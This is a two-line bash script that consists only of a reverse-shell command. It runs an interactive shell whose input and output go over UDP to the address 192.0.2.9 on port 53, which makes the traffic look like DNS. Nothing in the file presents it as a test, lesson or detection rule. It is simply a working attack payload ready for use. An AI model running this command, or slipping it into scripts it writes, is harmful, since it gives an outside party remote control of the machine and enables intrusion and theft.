#!/bin/bash
sh -i >& /dev/udp/192.0.2.9/53 0>&1
